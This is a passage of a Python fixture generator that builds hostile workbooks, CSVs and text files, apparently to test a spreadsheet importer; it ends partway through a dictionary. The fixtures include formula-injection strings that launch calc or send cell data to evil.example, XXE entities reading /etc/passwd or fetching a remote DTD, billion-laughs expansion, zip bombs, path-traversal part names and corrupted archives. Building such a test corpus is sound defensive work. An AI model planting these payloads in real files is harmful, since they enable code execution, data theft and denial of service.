"""Workbooks and tables made to do harm: each a name and bytes, always the same, none large on the disk."""

import base64
import gzip
import io
import random
import struct
import zipfile
from collections.abc import Iterator, Mapping

_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
_DRAWING = "http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"
_ART = "http://schemas.openxmlformats.org/drawingml/2006/main"
_SEED = 20260501
_PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
WORKBOOK, SHEET, SHARED, STYLES = (
    "xl/workbook.xml",
    "xl/worksheets/sheet1.xml",
    "xl/sharedStrings.xml",
    "xl/styles.xml",
)
WORKBOOK_RELS, SHEET_RELS, ROOT_RELS = (
    "xl/_rels/workbook.xml.rels",
    "xl/worksheets/_rels/sheet1.xml.rels",
    "_rels/.rels",
)
DRAWING, DRAWING_RELS = "xl/drawings/drawing1.xml", "xl/drawings/_rels/drawing1.xml.rels"
_FORMULAS = (
    "=cmd|' /C calc'!A0", "+1+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"石桥村")', "=DDE(\"cmd\";\"/C calc\";\"x\")", "=WEBSERVICE(\"http://x\")",
    "\t=1+1", "\r=1+1", "＝1+1", "{=1+1}", "<r><t>x</t></r>", "http://evil.example", "mailto:x@evil.example",
    "{{ 7*7 }}", "{% for x in range(9) %}x{% endfor %}", "{{ 镇.名称 }}", "&a *b", "!!python/object:os.system x",
    "- a: b", "# x", "| x", "> x", "%YAML 1.1", "---", "...", "? x", "'x", '"x', "a: b", "null", "~", "<<: *x",
    "[x", "{x",
)  # fmt: skip
_NUMBERS = (
    "1e308", "-1e308", "1e309", "NaN", "INF", "-INF", "Infinity", "-0", "1E-320", "99999999999999999999", "1_000",
    "0x10", "１２", "٣", "1e", "--1", "", " ", "9" * 5000, "9" * 32_000, "1" + "0" * 400, "0." + "0" * 5000 + "1",
    "1e999999999",
)  # fmt: skip
_DATES = ("0", "60", "-1", "1", "2958465", "2958465.99999999", "2958466", "1e10", "nan", "x", "59.5", "1e-9")
_TEXTS = {
    "32767": "字" * 32_767, "40000": "字" * 40_000, "escapes": "a_x0000_b_x0001_c_x001B_", "surrogate": "_xD800_x",
    "pair": "_xD83D__xDE00_", "low": "x_xDFFF_", "nonchar": "_xFFFE__xFFFF__xFDD0_", "rtl": "\u202e村桥石\u202c",
    "zero": "石\u200b桥\ufeff村", "del": "\x7f\x80\x85\x9f", "breaks": "a\u2028b\u2029c\x85d", "mix": "_x005F_x0041_",
    "combining": "a" + "\u0301" * 5000, "paren": "(" * 30_000, "blank": "　" * 30_000, "astral": "\U0001f600" * 16_000,
    "digits": "1" * 30_000 + "x", "commas": "1," * 15_000 + "x", "ascii-art": "\ufdfa" * 32_000,
}  # fmt: skip
_REFERENCES = (
    "A0", "ZZZZ1", "A99999999999", "XFD1048576", "", "1A", "A", "5", "A-1", "a1", "$A$1", "R1C1", "A1:B2", "Ａ１",
    "A1 ",
    "AAAAAAAAAAA1", "IV20000", "IW1", "A20001", "А1",
)  # fmt: skip
_ROWS = ("0", "-1", "x", "", "99999999", "999999999999", "1048576", "20000", "20001", "1.5", "１", "²", "9" * 5000)
_MERGED = (
    "B3:A1", "A1:XFD1048576", "A0:B0", "A1:IV20000", "A1", "", "A1:", ":A1", "A1:B", "1:1", "A:A", "ZZZ9:AAA1",
    "A1:A9999999", "$A$1:$B$2", "A1:B2:C3", "a1:b2",
)  # fmt: skip
_INDEXES = ("-1", "99999999", "x", "1.5", "", "9" * 5000, "０", " 0 ", "1e3")
_CODES = (
    "y" * 100_000, '"' * 100_000, "[" * 100_000, "\\" * 99_999, "_" * 99_999, "[h" * 50_000, "m" * 100_000, "%" * 5,
    '"%"0', "[Red]yyyy", ";;;", "General", "0_;yyyy", "(((((" * 9000,
)  # fmt: skip
_NAMES = (
    "../../evil.xml", "/etc/passwd", "C:\\evil.exe", "..\\..\\evil", "a\0b.xml", "xl/Workbook.XML", "xl//workbook.xml",
    "./xl/workbook.xml", "x" * 60_000, "xl/vbaProject.bin", "xl/embeddings/oleObject1.bin", "CON", "xl/\u202exml.x",
    "xl/externalLinks/externalLink1.xml", "xl/activeX/activeX1.bin", "xl/ctrlProps/x.xml", "customXml/item1.xml", "a/",
)  # fmt: skip
_STAMPS: Mapping[str, Mapping[str, str]] = {
    "form": {"form": "../../etc"},
    "form-blank": {"form": ""},
    "form-other": {"form": "passwd"},
    "key-up": {"form": "week", "key": "../../../x"},
    "key-week-up": {"form": "week", "key": "../../heshan/weeks/2026-W12"},
    "key-other-town": {"form": "score", "key": "../../heshan/scores/example"},
    "key-notice": {"form": "notice", "key": "../weeks/2026-W12"},
    "key-absolute": {"form": "notice", "key": "/etc/passwd"},
    "key-nul": {"form": "notice", "key": "a\0b"},
    "key-long": {"form": "notice", "key": "x" * 5000},
    "key-lines": {"form": "week", "key": "2026-W12\n- x"},
    "key-odd": {"form": "week", "key": "2026-W99"},
    "key-none": {"form": "week", "key": "W-W-W"},
    "village": {"form": "week", "key": "2026-W17", "village": "../../石桥村"},
    "town": {"form": "week", "key": "2026-W17", "town": "安平镇\n危险: 1"},
    "export": {"form": "week", "key": "2026-W17", "export": "../../../etc"},
    "export-hex": {"form": "week", "key": "2026-W17", "export": "0000000f"},
    "format": {"form": "week", "key": "2026-W17", "format": "9" * 5000},
    "format-odd": {"form": "week", "key": "2026-W17", "format": "²"},
}
#: a small sheet of Excel 97: 任务 单位 完成 / R1 石桥村 5
_XLS = (
    "H4sIAAAAAAACA+1YTWgTQRT+ZpM0P6TppqaFViihYNW2l+LFS90qaE+NbaQoWqiJDSotqQRB9KDVmpui4EnxEujFS9WLP+hBbx7E"
    "ih4EpZDo0VNRQbDN+t7LrqTaQwMaVOZb5s2b9+btvJ15M7MzLxeixcLd9hJ+wg54ULaDaKiSKUpBt2CC9LbNrJsHKNka/xSCARrI"
    "Bh8eNT738xjyeJdg4I73KVHgPaUxnEBiOpuJ1xG7xIeUYh/6iSrcJEkEbeJVs9AjQjcIvS01HwsdEMllof1Ut6gOYsFKdG93oviA"
    "0Sm6CPi998XmrUj60IJnHMXnrqpKXR925o6npv5ORYc3jDnQuA1msplcaqqIGA3gHL7YceCzO1OfxLW8vnIFkn9dLfevIb9meIEZ"
    "2IclwPMI44WHNYZ6d2V0bBk9NNCQRPpviUKSstF9Q3spu3TITFPEJvs8UJ9OZY6NHA3x6iyz2Vw1mxslysNEJ9AkfFRi3aT1evnW"
    "0quh9LA1LpIZWcEr6/wmdg02zrMFGUdEYwhlH7uF7xF6Qd66Ufh2oTFymvKu4RaH2TMrdS6Ktova2SZ4bW2u4rcQn/848qAj/8Ha"
    "Svz8YOlMbP6NVUAn7TsTZM/PLHpVr7pxnfHQcnPlrAmLQtt+WR8Chun4bjubWRNWEBI2KrRS4t5RP0qG01dsrdawVmLtceorseZ+"
    "O2twia1beS81mnFPum6gajcNQUNDQ0NDQ0NDQ6PeUM5fPf/Dep3DBp8a/M69zgqlsr4m+W+RxDQ9J+lguhtZynM4XVP8tMKn3Hep"
    "ddq494WM/dR6DpNIix+TNccvnfpU9fes29D8fVOo1vbLtfj5h9v/DoOvup8AFgAA"
)
HEADS = ("任务", "单位", "完成")


# Parts


def escaped(text: str) -> str:
    """*text* in XML, as a hostile hand has it: what XML cannot hold is dropped."""
    kept = "".join(one for one in text if one in "\t\n\r" or (one >= " " and not "\ud800" <= one <= "\udfff"))
    marks = {"&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;", "\r": "&#13;", "\ufffe": "", "\uffff": ""}
    return kept.translate(str.maketrans(marks))


def cell(text: str, reference: str = "") -> str:
    """A cell with the *text* in it."""
    at = f' r="{escaped(reference)}"' if reference else ""
    return f'<c{at} t="inlineStr"><is><t xml:space="preserve">{escaped(text)}</t></is></c>'


def row(*texts: str) -> str:
    """A row of texts."""
    return f"<row>{''.join(map(cell, texts))}</row>"


def worksheet(rows: str, behind: str = "", before: str = "") -> str:
    """The part of a sheet."""
    spaces = f'xmlns="{_MAIN}" xmlns:r="{_OFFICE}"'
    return f"<worksheet {spaces}>{before}<sheetData>{rows}</sheetData>{behind}</worksheet>"


def relations(*ones: tuple[str, str]) -> str:
    """The part of relationships: of each the end of its type, and its target."""
    listed = [
        f'<Relationship Id="rId{number}" Type="{_OFFICE}/{kind}" Target="{escaped(target)}"/>'
        for number, (kind, target) in enumerate(ones, 1)
    ]
    return f'<Relationships xmlns="{_PACKAGE}">{"".join(listed)}</Relationships>'


def parts_of(*sheets: str, names: tuple[str, ...] = ()) -> dict[str, bytes]:
    """The parts of a workbook with these *sheets*."""
    listed: list[str] = []
    targets: list[tuple[str, str]] = []
    parts: dict[str, bytes] = {}
    for number, sheet in enumerate(sheets, 1):
        name = names[number - 1] if number <= len(names) else f"进展{number}"
        listed.append(f'<sheet name="{escaped(name)}" sheetId="{number}" r:id="rId{number}"/>')
        targets.append(("worksheet", f"worksheets/sheet{number}.xml"))
        parts[f"xl/worksheets/sheet{number}.xml"] = sheet.encode()
    spaces = f'xmlns="{_MAIN}" xmlns:r="{_OFFICE}"'
    parts[WORKBOOK] = f"<workbook {spaces}><sheets>{''.join(listed)}</sheets></workbook>".encode()
    parts[WORKBOOK_RELS] = relations(
        *targets, ("sharedStrings", "sharedStrings.xml"), ("styles", "styles.xml")
    ).encode()
    parts[ROOT_RELS] = relations(("officeDocument", "xl/workbook.xml")).encode()
    return parts


def zipped(parts: Mapping[str, bytes]) -> bytes:
    """The *parts* in a zip, always the same."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), data, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def book(*sheets: str, names: tuple[str, ...] = (), more: Mapping[str, bytes | str] | None = None) -> bytes:
    """A workbook with these *sheets*, and *more* parts."""
    extra = {name: part.encode() if isinstance(part, str) else part for name, part in (more or {}).items()}
    return zipped({**parts_of(*sheets, names=names), **extra})


def filled(*texts: str) -> str:
    """A sheet of figures with the *texts* below its heads."""
    return worksheet(row(*HEADS) + row(*(texts or ("R1", "石桥村", "5"))))


def xls() -> bytes:
    """A small .xls that is whole."""
    return gzip.decompress(base64.b64decode(_XLS))


# Kinds


def _formulas() -> Iterator[tuple[str, bytes]]:
    for number, text in enumerate(_FORMULAS):
        yield f"formula-cell-{number}.xlsx", book(filled("R1", "石桥村", text))
        yield f"formula-name-{number}.xlsx", book(filled(), names=(text,))
        yield f"formula-csv-{number}.csv", f'任务,单位,完成\nR1,"{text.replace(chr(34), chr(34) * 2)}",5\n'.encode()
    said = '<comment ref="A1"><text><t>=1+1</t></text></comment>'
    comment = f'<comments xmlns="{_MAIN}"><commentList>{said}</commentList></comments>'
    yield (
        "comment.xlsx",
        book(filled(), more={"xl/comments1.xml": comment, SHEET_RELS: relations(("comments", "../comments1.xml"))}),
    )
    for number, text in enumerate(_FORMULAS[:6]):
        formula = f"<row><c><f>{escaped(text)}</f></c><c><f>{escaped(text)}</f><v>5</v></c></row>"
        yield f"formula-real-{number}.xlsx", book(worksheet(row(*HEADS) + formula))


def _declared() -> Iterator[tuple[str, bytes]]:
    laughs = (
        '<!DOCTYPE x [<!ENTITY a "ha">'
        + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
        + "]>"
    )
    outside = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    parameter = '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;]>'
    shared = f'<sst xmlns="{_MAIN}"><si><t>&a;</t></si></sst>'
    styles = f'<styleSheet xmlns="{_MAIN}"><cellXfs><xf numFmtId="0"/></cellXfs></styleSheet>'
    drawing = f'<x:wsDr xmlns:x="{_DRAWING}"/>'
    whole = {**parts_of(filled()), SHARED: shared.encode(), STYLES: styles.encode(), DRAWING: drawing.encode()}
    whole[SHEET_RELS] = relations(("drawing", "../drawings/drawing1.xml")).encode()
    whole[DRAWING_RELS] = relations().encode()
    for part, data in whole.items():
        for name, declared in (("laughs", laughs), ("outside", outside), ("parameter", parameter)):
            yield f"{name}-{part.replace('/', '-')}.xlsx", zipped({**whole, part: declared.encode() + data})
        for encoding in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-be", "utf-7", "cp037"):
            head = f'<?xml version="1.0" encoding="{"IBM037" if encoding == "cp037" else encoding}"?>'
            text = (head + laughs + data.decode()).encode(encoding, "replace")
            yield f"{encoding}-{part.replace('/', '-')}.xlsx", zipped({**whole, part: text})
    moved = parts_of(filled())
    moved["xl/workbook.dat"] = (laughs + moved.pop(WORKBOOK).decode()).encode()
    moved[ROOT_RELS] = relations(("officeDocument", "xl/workbook.dat")).encode()
    yield "laughs-in-a-dat.xlsx", zipped(moved)
    yield "no-end.xlsx", book("<worksheet><sheetData>" + row(*HEADS))
    yield "deep.xlsx", book("<a>" * 100_000)
    yield "unknown-encoding.xlsx", book('<?xml version="1.0" encoding="x-none"?>' + filled())
    yield "undefined-entity.xlsx", book(worksheet(row("x") + "&lol;"))


def _places() -> Iterator[tuple[str, bytes]]:
    for number, reference in enumerate(_REFERENCES):
        yield f"reference-{number}.xlsx", book(worksheet(row(*HEADS) + f"<row>{cell('x', reference)}</row>"))
        yield f"reference-empty-{number}.xlsx", book(worksheet(row(*HEADS) + f'<row><c r="{reference}"/></row>'))
    for number, said in enumerate(_ROWS):
        yield f"row-{number}.xlsx", book(worksheet(row(*HEADS) + f'<row r="{said}">{cell("x")}</row>'))
        yield f"row-empty-{number}.xlsx", book(worksheet(row(*HEADS) + f'<row r="{said}" hidden="1"><c/></row>'))
    shuffled = "".join(f'<row r="{number}">{cell("x")}</row>' for number in (5, 3, 3, 1, 5, 2))
    yield "rows-shuffled.xlsx", book(worksheet(shuffled))
    for number, span in enumerate(_MERGED):
        merged = f'<mergeCells><mergeCell ref="{span}"/></mergeCells>'
        yield f"merged-{number}.xlsx", book(worksheet(row(*HEADS), merged))
    cancelling = '<mergeCell ref="A1:IV20000"/><mergeCell ref="A20000:IV1"/>' * 9000
    yield "merged-cancelling.xlsx", book(worksheet(row(*HEADS), f"<mergeCells>{cancelling}</mergeCells>"))
    yield "merged-overlapping.xlsx", book(worksheet(row(*HEADS), '<mergeCell ref="A1:C3"/>' * 15_000))
    wide = worksheet(row(*HEADS), '<mergeCell ref="A1:IV780"/>')
    yield "merged-in-all-sheets.xlsx", book(*[wide] * 100)
    yield "comment-in-a-row.xlsx", book(worksheet(f"<row><!-- x --><?x y?>{cell('x')}</row><!-- <row> -->"))
    for number, said in enumerate(("A1:XFD1048576", "B3:A1", "x", "")):
        yield f"dimension-{number}.xlsx", book(worksheet(row(*HEADS), before=f'<dimension ref="{said}"/>'))


def _large() -> Iterator[tuple[str, bytes]]:
    yield "rows-two-million.xlsx", book(worksheet("<row/>" * 1_999_999 + row("x")))
    yield "rows-two-million-filled.xlsx", book(worksheet("<row><c><v>1</v></c></row>" * 300_000))
    yield "columns-16384.xlsx", book(worksheet(row(*["x"] * 16_384)))
    yield "columns-16384-empty.xlsx", book(worksheet(_in_row('<c s="1"/>' * 16_384) * 100))
    yield "one-row.xlsx", book(worksheet(f"<row>{'<c/>' * 2_900_000}</row>"))
    yield "one-row-attributes.xlsx", book(worksheet(_in_row('<c r="A1" s="1"/>' * 1_400_000)))
    yield "attributes.xlsx", book(worksheet(_with_attributes(500_000)))
    yield "columns-named.xlsx", book(worksheet("".join(f'<row><c r="{_letters(n)}1"/></row>' for n in range(200_000))))
    yield "wrapped-rows.xlsx", book(worksheet("<a><row/></a>" * 200_000))
    yield "cells-750000.xlsx", book(worksheet(f"<row>{'<c><v>1</v></c>' * 200}</row>" * 3700))
    yield "cells-in-all-sheets.xlsx", book(*[worksheet(f"<row>{'<c><v>1</v></c>' * 200}</row>" * 300)] * 100)
    yield "cols.xlsx", book(worksheet(row(*HEADS), before=f"<cols>{'<col/>' * 2_900_000}</cols>"))
    yield "long-text.xlsx", book(worksheet(row("x" * 9_000_000)))
    yield "long-value.xlsx", book(worksheet(f"<row><c><v>{'9' * 9_000_000}</v></c></row>"))
    yield "text-over-ten-mb.xlsx", book(worksheet(row("x" * 11_000_000)))
    yield "part-90-mb.xlsx", book(worksheet(" " * 90_000_000))
    yield "part-99-mb.xlsx", book(filled(), more={"xl/media/x.png": b"\0" * 99_000_000})
    yield "part-101-mb.xlsx", book(filled(), more={"xl/media/x.png": b"\0" * 101_000_000})
    yield "astral.xlsx", book(worksheet("".join(row("\U0001f600" + "x" * 32_000) for _n in range(900))))
    yield "shared-texts.xlsx", book(filled(), more={SHARED: f'<sst xmlns="{_MAIN}">{"<si/>" * 400_001}</sst>'})
    yield "shared-one.xlsx", book(filled(), more={SHARED: f'<sst xmlns="{_MAIN}"><si>{"<t/>" * 2_900_000}</si></sst>'})
    for part, tag in ((WORKBOOK, "sheet"), (STYLES, "xf"), (STYLES, "numFmt"), (DRAWING, "x")):
        data = f'<a xmlns="{_MAIN}">{f"<{tag}/>" * 2_900_000}</a>'
        more = {part: data, SHEET_RELS: relations(("drawing", "../drawings/drawing1.xml"))}
        yield f"many-{tag}.xlsx", book(filled(), more=more)
    many = f'<Relationships xmlns="{_PACKAGE}">{"<Relationship/>" * 2_900_000}</Relationships>'
    yield "many-relations.xlsx", book(filled(), more={WORKBOOK_RELS: many})
    again = relations(*[("drawing", "../drawings/drawing1.xml")] * 30_000)
    drawing = f'<x xmlns="{_DRAWING}">{"<twoCellAnchor/>" * 90_000}</x>'
    yield "drawing-again.xlsx", book(filled(), more={SHEET_RELS: again, DRAWING: drawing})
    sheets = parts_of(*[worksheet("<row/>" * 100_000)])
    listed = "".join(f'<sheet name="{n}" r:id="rId1"/>' for n in range(100))
    sheets[WORKBOOK] = f'<workbook xmlns="{_MAIN}" xmlns:r="{_OFFICE}"><sheets>{listed}</sheets></workbook>'.encode()
    yield "sheet-again.xlsx", zipped(sheets)
    yield "sheets-101.xlsx", book(*[filled()] * 101)
    yield "parts-2001.xlsx", book(filled(), more={f"x/{n}.xml": "" for n in range(2001)})
    yield "hidden-rows.xlsx", book(worksheet(row(*HEADS) + f'<row hidden="1">{cell("R1")}{cell("x")}</row>' * 15_000))


def _in_row(cells: str) -> str:
    return f"<row>{cells}</row>"


def _with_attributes(count: int) -> str:
    attributes = " ".join(f'a{number}=""' for number in range(count))
    return f"<row {attributes}/>"


def _letters(number: int) -> str:
    letters = ""
    for _place in range(6):
        number, one = divmod(number, 26)
        letters += chr(65 + one)
    return letters


def _values() -> Iterator[tuple[str, bytes]]:
    styles = '<cellXfs><xf numFmtId="0"/><xf numFmtId="14"/><xf numFmtId="9"/><xf numFmtId="200"/></cellXfs>'
    for number, value in enumerate((*_NUMBERS, *_DATES)):
        cells = "".join(f'<c s="{style}"><v>{value}</v></c>' for style in range(4))
        more = {STYLES: f'<styleSheet xmlns="{_MAIN}">{styles}</styleSheet>'}
        yield (
            f"number-{number}.xlsx",
            book(worksheet(row(*HEADS) + f"<row>{cell('R1')}{cell('石桥村')}{cells}</row>"), more=more),
        )
    early = parts_of(worksheet("".join(f'<row><c s="1"><v>{value}</v></c></row>' for value in _DATES[:8])))
    early[STYLES] = f'<styleSheet xmlns="{_MAIN}">{styles}</styleSheet>'.encode()
    early[WORKBOOK] = early[WORKBOOK].replace(b"<sheets>", b'<workbookPr date1904="1"/><sheets>')
    yield "dates-1904.xlsx", zipped(early)
    for number, index in enumerate(_INDEXES):
        shared = {SHARED: f'<sst xmlns="{_MAIN}"><si><t>x</t></si></sst>'}
        yield f"shared-{number}.xlsx", book(worksheet(f'<row><c t="s"><v>{index}</v></c></row>'), more=shared)
        yield f"style-{number}.xlsx", book(worksheet(f'<row><c s="{index}"><v>1</v></c></row>'))
        style = (
            f'<styleSheet xmlns="{_MAIN}"><!-- x --><cellXfs><!-- x --><xf numFmtId="{index}"/></cellXfs></styleSheet>'
        )
        yield f"format-{number}.xlsx", book(filled(), more={STYLES: style})
    looks = '<xf numFmtId="200"/>' * 20_000
    for number, code in enumerate(_CODES):
        formats = f'<numFmts><numFmt numFmtId="200" formatCode="{escaped(code)}"/></numFmts>'
        style = f'<styleSheet xmlns="{_MAIN}">{formats}<cellXfs>{looks}</cellXfs></styleSheet>'
        yield f"code-{number}.xlsx", book(worksheet('<row><c s="1"><v>45992</v></c></row>'), more={STYLES: style})
    for name, text in _TEXTS.items():
        yield f"text-{name}.xlsx", book(filled("R1", text, text))
        yield f"text-head-{name}.xlsx", book(worksheet(row(text, *HEADS) + row(text, "R1", "石桥村", "5")))
    for kind in ("s", "str", "b", "e", "d", "n", "x", "inlineStr"):
        yield f"kind-{kind}.xlsx", book(worksheet(f'<row><c t="{kind}"><v>_xD800_</v></c><c t="{kind}"/></row>'))


def _zips() -> Iterator[tuple[str, bytes]]:
    for number, name in enumerate(_NAMES):
        yield f"part-name-{number}.xlsx", book(filled(), more={name: b"x"})
    whole = book(filled())
    inner = zipped({"a.xml": b"\0" * 50_000_000})
    yield "nested.xlsx", book(filled(), more={"a.zip": zipped({f"{n}.zip": inner for n in range(5)})})
    for name, at, value in (
        ("size", 24, 1),
        ("size-large", 24, 99_999_999),
        ("packed", 20, 1),
        ("crc", 16, 1),
        ("offset", 42, 0),
    ):
        place = whole.index(b"PK\1\2") + at
        yield f"lying-{name}.xlsx", whole[:place] + struct.pack("<I", value) + whole[place + 4 :]
    locked = bytearray(whole)
    locked[whole.index(b"PK\1\2") + 8] |= 1
    yield "locked.xlsx", bytes(locked)
    doubled = io.BytesIO(whole)
    with zipfile.ZipFile(doubled, "a") as archive:
        entry = zipfile.ZipInfo("xl/extra.xml")
        archive.writestr(entry, b"x")
    yield "added.xlsx", doubled.getvalue()
    for tenth in range(10):
        yield f"cut-{tenth}.xlsx", whole[: len(whole) * tenth // 10]
    chance = random.Random(_SEED)
    for number in range(40):
        data = bytearray(whole)
        for _flip in range(1 + number % 5):
            data[chance.randrange(len(data))] ^= 1 << chance.randrange(8)
        yield f"flipped-{number}.xlsx", bytes(data)
    stored = io.BytesIO()
    with zipfile.ZipFile(stored, "w") as archive:
        for name, data in parts_of(filled()).items():
            archive.writestr(zipfile.ZipInfo(name), data)
    for number in range(40):
        data = bytearray(stored.getvalue())
        data[chance.randrange(len(data))] = chance.randrange(256)
        yield f"flipped-stored-{number}.xlsx", bytes(data)


def _links() -> Iterator[tuple[str, bytes]]:
    for number, target in enumerate(
        (
            "../../../etc/passwd",
            "file:///etc/passwd",
            "http://evil.example/x",
            "%2e%2e/%2e%2e/x",
            "\\\\evil\\x",
            "",
            "#",
            "//x",
            "xl/%00",
        )
    ):
        yield f"target-{number}.xlsx", book(filled(), more={ROOT_RELS: relations(("officeDocument", target))})
        yield f"target-sheet-{number}.xlsx", book(filled(), more={WORKBOOK_RELS: relations(("worksheet", target))})
    outside = relations(("officeDocument", "xl/workbook.xml")).replace("/>", ' TargetMode="External"/>')
    yield "outside.xlsx", book(filled(), more={ROOT_RELS: outside})
    yield "itself.xlsx", book(filled(), more={WORKBOOK_RELS: relations(("worksheet", "workbook.xml"))})
    macros = {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"Auto_Open", "xl/embeddings/oleObject1.bin": xls()}
    yield "macros.xlsm", book(filled(), more=macros)
    anchor = '<x:{2}><x:from><x:col>{0}</x:col><x:row>{1}</x:row></x:from><a:blip r:embed="rId1"/></x:{2}>'
    spaces = f'xmlns:x="{_DRAWING}" xmlns:a="{_ART}" xmlns:r="{_OFFICE}"'
    more: dict[str, bytes | str] = {
        SHEET_RELS: relations(("drawing", "../drawings/drawing1.xml")),
        DRAWING_RELS: relations(("image", "../media/a.png"), ("image", "../drawings/drawing1.xml")),
        "xl/media/a.png": _PNG[:16] + b"\x7f\xff\xff\xff" * 2 + _PNG[24:],
    }
    for number, (column, line) in enumerate(
        (("0", "1"), ("1", "1000000000"), ("-1", "x"), ("9" * 5000, "1"), ("²", "١"))
    ):
        drawn = f"<x:wsDr {spaces}>{anchor.format(column, line, 'oneCellAnchor')}</x:wsDr>"
        yield f"picture-{number}.xlsx", book(filled(), more={**more, DRAWING: drawn})
    many = anchor.format("0", "1", "twoCellAnchor") * 5000
    yield "pictures-5000.xlsx", book(filled(), more={**more, DRAWING: f"<x:wsDr {spaces}>{many}</x:wsDr>"})
    blips = '<a:blip r:embed="rId1"/>' * 20_000
    nested = (
        "<x:oneCellAnchor><x:from><x:col>0</x:col><x:row>1</x:row></x:from>" * 200 + blips + "</x:oneCellAnchor>" * 200
    )
    yield "pictures-nested.xlsx", book(filled(), more={**more, DRAWING: f"<x:wsDr {spaces}>{nested}</x:wsDr>"})
    images = f'<etc {spaces}><x:pic><x:cNvPr name="ID_A"/><a:blip r:embed="rId1"/></x:pic></etc>'
    targets = (("worksheet", "worksheets/sheet1.xml"), ("cellImage", "cellimages.xml"))
    shared = {WORKBOOK_RELS: relations(*targets), "xl/cellimages.xml": images, "xl/media/a.png": _PNG}
    for number, target in enumerate(("media/a.png", "cellimages.xml", "../../etc/passwd", "workbook.xml")):
        own = {**shared, "xl/_rels/cellimages.xml.rels": relations(("image", target))}
        for name in ("ID_A", "../../x", "", '"&A1&"', "A" * 9000):
            formula = f'<row><c><f>_xlfn.DISPIMG("{escaped(name)}",1)</f><v>x</v></c></row>'
            yield f"dispimg-{number}-{len(name)}.xlsx", book(worksheet(row(*HEADS) + formula * 300), more=own)


def _stamps() -> Iterator[tuple[str, bytes]]:
    for name, said in _STAMPS.items():
        hidden = worksheet("".join(row(field, value) for field, value in said.items()))
        yield f"stamp-{name}.xlsx", book(filled(), hidden, names=("进展", "_wenming"))
        foot = " · ".join((said.get("town", "安平镇"), said.get("key", ""), said.get("village", "")))
        number = f"表号 {said.get('form') or 'week'}-{said.get('export', '00000000')}-{said.get('format', '1')[:4]}"
        sheet = worksheet(row(*HEADS) + row("R1", "石桥村", "5") + row(f"{foot} · {number}"))
        yield f"foot-{name}.xlsx", book(sheet, names=("进展",))


def _old() -> Iterator[tuple[str, bytes]]:
    whole = xls()
    yield "whole.xls", whole
    yield "encrypted.xlsx", whole[:512] + "EncryptedPackage".encode("utf-16-le") + whole[512:]
    chance = random.Random(_SEED)
    for number in range(24):
        data = bytearray(whole)
        for _flip in range(1 + number % 7):
            data[chance.randrange(len(data))] = chance.randrange(256)
        yield f"old-{number}.xls", bytes(data)
    for tenth in range(1, 10, 2):
        yield f"old-cut-{tenth}.xls", whole[: len(whole) * tenth // 10]
    yield "old-head.xls", whole[:8]
    start = whole.index(b"\x09\x08\x10\x00", 600)
    for number, (kind, payload) in enumerate(_RECORDS):
        record = struct.pack("<HH", kind, len(payload)) + payload
        data = bytearray(whole)
        data[start + 20 : start + 20 + len(record)] = record
        yield f"old-record-{number}.xls", bytes(data)


_RECORDS = (
    (0x00E5, struct.pack("<H4H", 1, 0, 65_535, 0, 255)),  # merged
    (0x00E5, struct.pack("<H", 65_535)),
    (0x0200, struct.pack("<LLHHH", 0, 0xFFFFFFFF, 0, 0xFFFF, 0)),
    (0x0203, struct.pack("<HHHd", 65_535, 255, 0, float("nan"))),
    (0x0203, struct.pack("<HHHd", 1, 2, 60_000, 1e308)),
    (0x00FD, struct.pack("<HHHL", 1, 1, 0, 0xFFFFFFFF)),
    (0x002F, b"\0\0" + b"\0" * 4),
)


def _texts() -> Iterator[tuple[str, bytes]]:
    head = "任务,单位,完成\n".encode()
    yield "empty.csv", b""
    yield "quote.csv", head + b'R1,"x' + b"\n" * 100_000
    yield "quotes.csv", head + b'"' * 999_999
    yield "nul.csv", head + b"R1,\0,5"
    yield "commas.csv", b"," * 4_900_000
    yield "lines.csv", b"\n" * 4_900_000
    yield "carriage-returns.csv", b"\r" * 4_900_000
    yield "short-lines.csv", "村\n".encode() * 1_200_000
    yield "long-line.csv", head + b"x" * 4_900_000
    yield "long-line-astral.csv", "\U0001f600".encode() + b"x," * 2_000_000
    yield "utf-16-bare.csv", "任务,单位,完成\nR1,石桥村,5".encode("utf-16-le")
    yield "utf-16-odd.csv", b"\xff\xfe\x00"
    yield "utf-16-half.csv", b"\xff\xfe\x00\xd8x\0"
    yield "utf-32.csv", "任务,单位".encode("utf-32")
    yield "mixed.csv", head + "石桥村".encode("gbk") + b"\xff\xff"
    yield "controls.csv", head + bytes(range(1, 32)) + b"\x7f,x,5"
    for number, mark in enumerate(('"', "", "\r", "\t", "\\", "\0", "任", "\U0001f600", " ", ",,")):
        yield f"separator-{number}.csv", f"sep={mark}\n".encode() + head + "R1,石桥村,5".encode()
    yield "digits.txt", "石桥村：".encode() + b"1" * 4_900_000
    yield "figures.txt", "石桥村：".encode() + ",".join(f"x{n}" for n in range(100_000)).encode()
    yield "one-line.txt", "石桥村：".encode() + "清运垃圾".encode() * 100_000
    yield "colons.txt", b":" * 4_900_000
    yield "wide-colons.txt", "：".encode() * 1_600_000
    yield "blanks.txt", "石桥村：1".encode() + b" " * 4_900_000
    yield "villages.txt", "石桥村：公益广告设置5处\n".encode() * 20_000
    for number, text in enumerate(_FORMULAS):
        yield f"chat-{number}.txt", f"石桥村：{text} 公益广告设置5处，{text}3\n".encode()
    for name, data in {
        "pdf": b"%PDF-1.7",
        "png": _PNG,
        "rtf": b"{\\rtf1",
